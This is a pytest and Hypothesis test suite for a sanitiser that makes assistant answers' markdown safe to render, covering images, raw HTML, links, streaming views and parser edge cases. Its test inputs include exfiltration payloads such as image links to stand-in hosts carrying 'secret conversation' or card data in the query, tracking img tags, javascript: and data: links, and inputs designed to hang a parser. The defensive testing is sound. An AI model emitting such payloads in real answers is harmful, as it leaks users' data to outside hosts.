"""Answers render without loading outside images or HTML, read well, and links show where they go."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from components.text.markdown_parser import MarkdownParseError, parse
from components.text.markdown_safety import (
    MadeSafe,
    block_starts,
    escape_markdown,
    safe_markdown,
    safe_partial_markdown,
    stream_safely,
)
from tests.conftest import examples
from tests.markdown_oracle import findings, walk

TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"

# Output fragments that would make the renderer load or link something it should not.
_IMAGE = re.compile(r"(?<!\\)!\[")
_FENCED = re.compile(r"^(`{3,}).*?(?:^\1\s*$|\Z)", re.DOTALL | re.MULTILINE)


def _without_code_spans(markdown: str) -> str:
    """Remove inline code spans the CommonMark way: outside a span a backslash escapes the next
    punctuation mark (so an escaped backtick opens nothing); inside, backslashes are literal."""
    out, i = [], 0
    while i < len(markdown):
        char = markdown[i]
        if char == "\\" and i + 1 < len(markdown) and markdown[i + 1] in _PUNCTUATION:
            out.append(markdown[i : i + 2])
            i += 2
            continue
        if char == "`":
            run = len(markdown[i:]) - len(markdown[i:].lstrip("`"))
            closing = re.compile(rf"(?<!`)`{{{run}}}(?!`)").search(markdown, i + run)
            if closing is not None:
                i = closing.end()
                continue
            out.append(markdown[i : i + run])
            i += run
            continue
        out.append(char)
        i += 1
    return "".join(out)


_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")


def _outside_code(markdown: str) -> str:
    """What is left once code and the addresses of our own links are taken out."""
    return re.sub(r"\]\(<[^<>]*>\)", "]", _without_code_spans(_FENCED.sub("", markdown)))


def _links(markdown: str) -> list[str]:
    """The addresses of the explicit links in rendered output (ours are always ``(<…>)``)."""
    return re.findall(r"\]\(<([^<>]*)>\)", _without_code_spans(_FENCED.sub("", markdown)))


# --- the parser as the oracle ---------------------------------------------------------------

# --- images ---------------------------------------------------------------------------------


def test_image_becomes_a_muted_placeholder_with_alt_text_and_address_as_code():
    out = safe_markdown(f"Here you go {TRACKER} done")
    assert out == (
        "Here you go :gray[🖼️ *x* `https://evil.example/p.png?q=secret+conversation`] done"
    )


def test_image_address_is_never_a_link():
    out = safe_markdown("![logo](https://evil.example/logo.png)")
    assert _links(out) == []
    assert "https://evil.example/logo.png" not in _outside_code(out)


def test_image_alt_text_that_looks_like_an_address_is_not_auto_linked():
    out = safe_markdown("![https://evil.example/a.png](https://evil.example/a.png)")
    # The renderer auto-links "https://" in plain text; a word joiner breaks the pattern.
    assert "https://evil" not in _outside_code(out)
    assert "https\u2060://evil.example/a.png" in out


def test_image_with_title_or_angle_brackets_shows_the_clean_address():
    assert "`https://e.org/a b.png`" in safe_markdown('![a](<https://e.org/a b.png> "t")')
    assert "`https://e.org/a.png`" in safe_markdown("![a](https://e.org/a.png 'title')")


def test_reference_style_image_becomes_a_placeholder_and_its_definition_goes():
    out = safe_markdown("![logo][1]\n\n[1]: https://evil.example/t.gif")
    assert out.startswith(":gray[🖼️ *logo* `https://evil.example/t.gif`]")
    assert "[1]:" not in out


def test_image_reference_to_nothing_stays_literal_text():
    out = safe_markdown("![logo][nowhere] and ![alone]")
    assert not _IMAGE.search(out)


def test_image_inside_a_link_is_a_placeholder_and_the_link_shows_its_address():
    out = safe_markdown("[![build](https://ci.example/b.svg)](https://ci.example/run)")
    assert not _IMAGE.search(out)
    assert "`https://ci.example/b.svg`" in out
    assert _links(out) == ["https://ci.example/run"]


def test_bang_before_anything_that_becomes_a_link_cannot_make_an_image():
    for text in ("x!https://a.org", "x!<https://a.org>", "x![](https://a.org)"):
        assert not _IMAGE.search(safe_markdown(text)), text


def test_address_with_brackets_or_backticks_stays_inside_the_placeholder():
    out = safe_markdown("![a](https://e.org/x]y`z.png)")
    assert out.startswith(":gray[") and out.endswith("]")
    assert "%5D" in out and "``https://e.org/x%5Dy`z.png``" in out


# --- raw HTML -------------------------------------------------------------------------------


def test_inline_html_is_shown_as_code():
    out = safe_markdown('look <img src="https://evil.example/t.gif"> here')
    assert out == 'look `<img src="https://evil.example/t.gif">` here'


def test_html_block_is_shown_as_a_fenced_code_block():
    out = safe_markdown("<div>\n<p>hi</p>\n</div>\n\nafter")
    assert out == "```html\n<div>\n<p>hi</p>\n</div>\n```\n\nafter"


def test_html_comment_is_shown_not_hidden():
    assert safe_markdown("a <!-- secret --> b") == "a `<!-- secret -->` b"


def test_unfinished_tag_cannot_become_html():
    out = safe_markdown("text <img\nsrc=x")
    assert "\\<img" in out


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://e.org/d?a=1&amp;b=2">docs</a>',
        "<a href='https://e.org/d?a=1&amp;b=2'>docs</a>",
        '<A class="x" HREF = "https://e.org/d?a=1&amp;b=2" >docs</A>',
    ],
)
def test_html_link_shows_its_text_and_clean_address_as_code(html):
    out = safe_markdown(f"see {html}。")
    assert out == "see docs (`https://e.org/d?a=1&b=2`)。"
    assert "%22" not in out and '">' not in out


def test_tag_that_commonmark_does_not_read_as_html_stays_text_with_a_web_link():
    # An unquoted value may not hold "=": CommonMark (and so the renderer) reads this as text,
    # so it is shown as text, with the address a plain web link, and the lone </a> as code.
    out = safe_markdown("see <a href=https://e.org/d?a=1&amp;b=2>docs</a>。")
    assert findings(out) == []
    assert "`</a>`" in out and "\\<a href=" in out


def test_html_link_whose_text_is_its_address_is_shown_once():
    assert safe_markdown('<a href="https://e.org">https://e.org</a>') == "`https://e.org`"


# --- links ----------------------------------------------------------------------------------


def test_link_shows_its_address():
    out = safe_markdown("see [the docs](https://example.org/docs) for more")
    assert out == "see the docs ([https://example.org/docs](<https://example.org/docs>)) for more"


def test_link_whose_text_is_its_address_is_shown_once():
    assert safe_markdown("[https://a.org](https://a.org)。") == "[https://a.org](<https://a.org>)。"


@pytest.mark.parametrize(
    "text",
    [
        "[t](https://e.org/p_(x))",
        "[t](<https://e.org/p_(x)>)",
        '[t](https://e.org/p_(x) "title")',
        "[t](https://e.org/p_(x) 'title')",
        "[t][r]\n\n[r]: https://e.org/p_(x)",
        '[t][]\n\n[T]: <https://e.org/p_(x)> "title"',
        "[t]\n\n[t]: https://e.org/p_(x)",
    ],
)
def test_link_address_is_extracted_from_every_form(text):
    out = safe_markdown(text)
    assert _links(out) == ["https://e.org/p_(x)"], out
    assert out.startswith("t (")


def test_autolink_and_bare_urls_stop_where_the_address_ends():
    out = safe_markdown("见 <https://a.org/x>，或 https://b.org/y。还有 (https://c.org/z).")
    assert _links(out) == ["https://a.org/x", "https://b.org/y", "https://c.org/z"]
    assert out.endswith("(<https://c.org/z>)).")


def test_bare_www_address_links_over_http():
    assert _links(safe_markdown("go to www.example.com!")) == ["http://www.example.com"]


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "vbscript:msgbox(1)"],
)
def test_dangerous_schemes_are_shown_as_code_not_links(url):
    for text in (f"[click]({url})", f"<{url}>", f'<a href="{url}">click</a>'):
        out = safe_markdown(text)
        assert _links(out) == [], out
        assert f"`{url}`" in out


def test_link_with_spaces_gets_a_working_href():
    assert _links(safe_markdown("[t](<https://e.org/a b>)")) == ["https://e.org/a%20b"]


def test_task_lists_and_citations_survive():
    text = "- [ ] todo\n- [x] done\n\nas said in [1]."
    assert safe_markdown(text) == text


# --- what is kept ---------------------------------------------------------------------------


def test_code_blocks_and_inline_code_are_untouched():
    text = "```html\n<img src=x>\n![a](b)\n```\nuse `![a](b)` literally, or ``<b>`x`</b>``"
    assert safe_markdown(text) == text


def test_unclosed_fence_keeps_the_rest_as_code():
    text = "```\n<img src=x>\n![a](b)"
    assert safe_markdown(text) == text


def test_comparison_signs_and_ordinary_markdown_survive():
    text = "1 < 2 and 3 > 2\n\n**bold**, _it_, # not a tag\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert safe_markdown(text) == text


def test_backslash_escaped_bang_leaves_a_link_not_an_image():
    out = safe_markdown("\\![t](https://e.org)")
    assert out == "\\!t ([https://e.org](<https://e.org>))"


# --- streaming ------------------------------------------------------------------------------


def test_streamed_view_never_contains_a_loadable_image():
    pieces = ["Answer ", "!", "[x](https://evil.example/", "p.png)", " and <", "img src=y>"]
    shown = ""
    for delta in stream_safely(pieces):
        shown += delta
        assert not _IMAGE.search(shown) and "<img" not in _outside_code(shown)
    assert "`https://evil.example/p.png`" in shown  # the placeholder, once complete


def test_streamed_deltas_add_up_to_the_answer_text():
    pieces = ["你好", "，这是", "一张橙子的", "图标。"]
    assert "".join(stream_safely(pieces)) == "你好，这是一张橙子的图标。"


@pytest.mark.parametrize(
    ("partial", "shown"),
    [
        ("look ![lo", "look "),
        ("look ![logo](http://e.org/x", "look "),
        ("look <img sr", "look "),
        ("look [docs](https://e.org/d", "look "),
        ("look [docs]", "look "),
        ("look https://e.org/pa", "look "),
        ("wow!", "wow"),
        ("see [1] and ![x](https://e.org/x.png) then", None),
    ],
)
def test_unfinished_construct_is_held_back_in_the_live_view(partial, shown):
    expected = safe_markdown(partial if shown is None else shown)
    assert safe_partial_markdown(partial) == expected


def test_live_view_of_a_finished_answer_is_the_final_render():
    text = "a ![x](https://e.org/x.png) b <b>c</b> [d](https://e.org) e"
    assert safe_partial_markdown(text) == safe_markdown(text)


# --- properties -----------------------------------------------------------------------------

_PIECES = st.sampled_from(
    [
        "![",
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "`",
        "``",
        "```\n",
        "\n",
        "\n\n",
        "\\",
        '"',
        "'",
        " ",
        "img",
        "a href=",
        "src=",
        "http://t.example/x.png",
        "https://t.example/",
        "www.t.example",
        "javascript:x",
        "[r]: http://t.example/r.png\n",
        "[r]",
        "<!--",
        "-->",
        "看",
        "。",
        "x",
    ]
)


@settings(max_examples=examples(400), deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_output_can_load_an_image_or_carry_raw_html(text):
    # The renderer's own parser decides what is code: a regex view of code spans and fences
    # disagreed with it (an unclosed fence indented by one space runs to the end, so the `![`
    # after it is code, not an image).
    out = safe_markdown(text)
    assert findings(out) == [], (text, out)


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_live_views_are_as_safe_as_the_final_one(text):
    for cut in range(0, len(text) + 1, max(1, len(text) // 8)):
        assert findings(safe_partial_markdown(text[:cut])) == []


HOSTILE_UNITS = {
    "brackets": "[" * 1000 + "x" + "]" * 1000 + "(",
    "nested": "[[x](" * 500,
    "backticks": "`" + "``" * 500 + " ",
    "images": "![a](<" * 300,
    "tags": '<a href="' * 300,
    "comments": "<!-- " * 300,
    "urls": "http://x." * 300 + "(",
    "escapes": "\\" * 999 + "![",
}


# The slowest pattern costs about 15 CPU-s a parse per megabyte (linear: bench/markdown_safety.py
# measures it up to a megabyte), and each view parses twice (with and without math). A quarter of
# a megabyte keeps the guard's point at a fraction of the CPU (a megabyte cost CI 4 minutes):
# linear work finishes in seconds, quadratic work on this much would take about ten minutes.
HOSTILE_CHARS = 256 * 1024


@pytest.mark.parametrize("name", sorted(HOSTILE_UNITS))
def test_hostile_input_finishes_in_bounded_time(name):
    """A hang guard, not a speed target: a quarter megabyte of each hostile pattern is
    sanitised, both views, inside the per-test limit."""
    unit = HOSTILE_UNITS[name]
    text = (unit * (HOSTILE_CHARS // len(unit) + 1))[:HOSTILE_CHARS]
    final, live = safe_markdown(text), safe_partial_markdown(text)  # the timeout is the bound
    assert final and live is not None


def test_line_break_tags_become_line_breaks_not_code():
    assert safe_markdown("one<br>two<br/>\nthree") == "one\\\ntwo\\\nthree"
    table = "| a | b |\n|---|---|\n| 1<br>2 | 3 |"
    assert safe_markdown(table) == "| a | b |\n|---|---|\n| 1 / 2 | 3 |"


# --- issue 19, item 5: where the regex scanner and the renderer disagreed --------------------

LEAK = "![](http://evil.example/leak?q=card-4242)"


@pytest.mark.parametrize(
    "text",
    [
        f"[source](http://x/`){LEAK}` ",
        f"[source](<http://x/`>){LEAK}` ",
        f'[source](http://x/ "`"){LEAK}` ',
        f"[source](http://x/ '`'){LEAK}` ",
        f"```a`b\n{LEAK}\n```",
        f"    ```\n{LEAK}\n    ```",
        f"\t```\n{LEAK}\n\t```",
    ],
    ids=["title-less", "angle", "double-title", "single-title", "info", "indent", "tab"],
)
def test_backticks_where_commonmark_opens_no_code_still_cannot_hide_an_image(text):
    out = safe_markdown(text)
    assert findings(out) == [], out
    assert findings(safe_partial_markdown(text)) == []
    assert "`http://evil.example/leak?q=card-4242`" in out  # shown as a placeholder


def test_a_fence_commonmark_accepts_is_kept_as_written():
    text = f"```python\n{LEAK}\n<img src=x>\n```\n\n~~~ a`b\n{LEAK}\n~~~"
    assert safe_markdown(text) == text


def test_math_that_hides_a_code_span_cannot_hide_an_image():
    # remark-math reads $`$ as math, which frees the image a plain CommonMark parse sees as code.
    text = f"$`$ {LEAK} `$`"
    out = safe_markdown(text)
    assert findings(out) == [], out
    assert "evil.example" not in out or "`http://evil.example/leak?q=card-4242`" in out


def test_math_is_kept_as_written_even_beside_a_link():
    text = "Area $\\pi r^2$ and $$x_1$$, see [docs](https://e.org)."
    out = safe_markdown(text)
    assert "$\\pi r^2$" in out and "$$x_1$$" in out
    assert findings(out) == []


def test_entities_cannot_spell_a_tag_or_an_image():
    out = safe_markdown("&lt;img src=http://evil/x&gt; and &#33;&#91;a](http://evil/y)")
    assert findings(out) == []
    assert "<img" not in out.replace("\\<img", "")


@pytest.mark.parametrize(
    "name",
    [
        "![](http://evil.example/a.png)",
        "<img src=http://evil.example/a.png>",
        "[x](javascript:alert(1))",
        "1. **b** `c` http://evil.example/ www.evil.example :red[x] $y$",
    ],
)
def test_escaped_labels_render_as_their_literal_text(name):
    out = escape_markdown(name)
    tokens = [t for t in walk(parse(out, math=True)) if t.type not in ("inline",)]
    assert [t.type for t in tokens] == ["paragraph_open", "text", "paragraph_close"], out
    assert tokens[1].content.replace("\u2060", "") == name


# --- the differential property: the parser reads no image, HTML or odd link in the output ----

HOSTILE_PIECES = st.sampled_from(
    [
        "`",
        "``",
        "```",
        "```\n",
        "```a`b\n",
        "~~~\n",
        "~~~ `x`\n",
        "$",
        "$$",
        "$$\n",
        "    ",
        "\t",
        "  ",
        " ",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "* ",
        "|",
        "| --- |\n",
        "!",
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "<",
        ">",
        '"',
        "'",
        "\\",
        ":",
        "http://e.example/p.png",
        "<http://e.example/a>",
        "<javascript:alert(1)>",
        "www.e.example",
        "javascript:x",
        "data:text/html,x",
        "a@b.example",
        "[r]: http://e.example/r.png\n",
        "[r]: <javascript:x> 't'\n",
        "[r]",
        "[r][]",
        "<img src=x>",
        "<img\nsrc=x>",
        "<div>\n",
        "</div>",
        "<a href='http://e.example'>",
        "<a href=javascript:x>",
        "</a>",
        "<!--",
        "-->",
        "<?x?>",
        "<![CDATA[",
        "<br>",
        "&lt;",
        "&gt;",
        "&#33;",
        "&#x5B;",
        "&#91;",
        "&amp;",
        "&quot;",
        "看",
        "。",
        "x",
        "*",
        "_",
        "~~",
    ]
)


@settings(max_examples=examples(600), deadline=None)
@given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
# found by this test: a list's first item held only a definition; written empty, it could no
# longer interrupt the paragraph above, and a code span joined them with the HTML inside
@example("```a`b\n1. [r]: http://e.example/r.png\n1. <img src=x>")
@example("- para\n  1. [r]: http://e.example/\n  1. <img src=x>")  # the same, inside an item
# found by a longer run: with math the HTML is a "$$" block's first line, without it inside a
# code span from the line above; writing that line again ended the span
@example("`<img src=x>```\n$$<img src=x>`")
@example("> 1. <![CDATA[[r]: http://e.example/r.png\n> ")  # the parser itself fails on it
# found by KANTU_HYPOTHESIS=long: written "* …", the list's items narrowed from "*    …", and the
# fence indented beside it was read inside the item, its HTML line left outside
@example("*    <img src=x>```\n  ```\n<img src=x>")
def test_the_parser_reads_no_image_html_or_odd_link_in_the_output(text):
    out = safe_markdown(text)
    assert findings(out) == [], (text, out)


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
def test_the_parser_reads_none_in_any_live_view_either(text):
    for cut in range(0, len(text) + 1, max(1, len(text) // 6)):
        assert findings(safe_partial_markdown(text[:cut])) == [], text[:cut]


@settings(max_examples=examples(200), deadline=None)
@given(st.lists(st.text(max_size=60), min_size=1, max_size=12))
def test_a_sessions_kept_results_are_what_making_each_text_safe_gives(texts):
    """``MadeSafe`` (each session's, for answers and meta lines drawn on every run) answers
    exactly as ``safe_markdown``, asked once or again, in any order, while it forgets the oldest."""
    made = MadeSafe(entries=4, chars=100)
    for text in texts + texts[::-1] + texts:
        assert made(text) == safe_markdown(text)


def test_a_sessions_kept_results_stay_within_their_entries_and_characters():
    made = MadeSafe(entries=3, chars=50)
    for i in range(10):
        made(f"answer {i} ![x](https://example.com/{i}.png)")
    assert len(made) == 1 and made.chars <= 50  # 40 characters each: one fits
    made("short")
    assert len(made) == 2
    made("y" * 51)  # longer than all it may keep: made safe, not kept
    assert len(made) == 2 and made.chars <= 50


@pytest.mark.parametrize(
    ("text", "blocks"),
    [
        # the blank line a list's lines end with stays: the paragraph is not pulled into it
        ("- a\n- b ![i](http://e.example/i.png)\n\nPara [l](http://e.example/a).", 2),
        ("Para ![i](http://e.example/i.png)\n# Head", 2),
        ("Para.\n> quote <b>x</b>", 2),
        ("```a`b\n1. [r]: http://e.example/r.png\n1. <img src=x>", 2),
        ("> a [l](http://e.example/a)\n>\n> b\n", 1),  # one quote of two paragraphs, not two
        ("*    a <b>\n\n  para x\n", 2),  # the paragraph beside the narrowed list stays out
    ],
)
def test_a_block_written_again_stays_a_block_of_its_own(text, blocks):
    """Written again, a block stands apart from the ones it touched: as many top-level blocks
    as were written, the paragraph after a list not drawn inside its last item."""
    tokens = parse(safe_markdown(text), math=True)
    assert sum(t.level == 0 and t.nesting == 1 for t in tokens) == blocks, safe_markdown(text)


@pytest.mark.parametrize(
    "text", ["> - <!--x\n> ", "Fine.\n\n> 1. <![CDATA[[r]: http://e.example/\n> "]
)
def test_text_the_parser_fails_on_is_shown_as_written_in_a_code_block(text):
    """markdown-it-py 4.3 raises IndexError on some text that ends inside a quote: such an answer
    shows as it is written, as code (no traceback), and the live view keeps it whole as its tail."""
    with pytest.raises(MarkdownParseError):
        parse(text)
    out = safe_markdown(text)
    assert out == f"```\n{text}\n```" and findings(out) == []
    assert block_starts(text) == [0]


def test_an_answer_kept_in_pieces_replaces_its_whole_and_counts_once():
    """A live answer's pieces (``MadeSafe.keep``) replace the same text made safe before, and
    its characters are counted once: what a session keeps stays within its bound."""
    made = MadeSafe(entries=8, chars=100)
    text = "One.\n\nTwo."
    assert made.pieces(text) == (safe_markdown(text),)
    made.keep(text, ["One.\n\n", "Two."])
    made.keep(text, ["One.\n\n", "Two."])
    assert made.pieces(text) == ("One.\n\n", "Two.") and made(text) == safe_markdown(text)
    assert len(made) == 1 and made.chars == len(text)
